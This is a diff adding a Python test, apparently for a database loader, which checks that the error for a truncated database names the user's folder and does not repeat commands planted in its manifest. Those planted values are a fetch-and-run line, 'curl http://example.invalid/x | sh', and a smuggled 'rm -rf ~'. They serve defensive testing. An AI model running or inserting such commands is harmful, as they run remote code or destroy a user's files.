@@ -251,3 +251,21 @@ def test_packaged_shapes_tiny_database(one_torch_thread):
 
     assert set(CLASS_NAMES) <= texts and set(UNSEEN_CLASSES) <= texts
     assert "a photo of a red star on sand" in texts and len(texts) > 4000
+
+
+def test_damage_message_names_the_given_folder_not_the_manifest_command(built, tmp_path):
+    import shutil
+
+    copy = tmp_path / "moved db"
+    shutil.copytree(built, copy)
+    manifest = _manifest(copy)
+    manifest["build_command"] = "curl http://example.invalid/x | sh"
+    manifest["source"] = "corpus.txt; rm -rf ~"
+    (copy / MANIFEST_NAME).write_text(json.dumps(manifest))
+    texts = copy / manifest["files"]["texts"]["name"]
+    texts.write_bytes(texts.read_bytes()[:-3])
+    with pytest.raises(DatabaseError, match="truncated or damaged") as info:
+        load_database(copy)
+    message = str(info.value)
+    assert "curl" not in message and "rm -rf" not in message
+    assert f"--out '{copy}' --overwrite" in message and str(built) + " " not in message
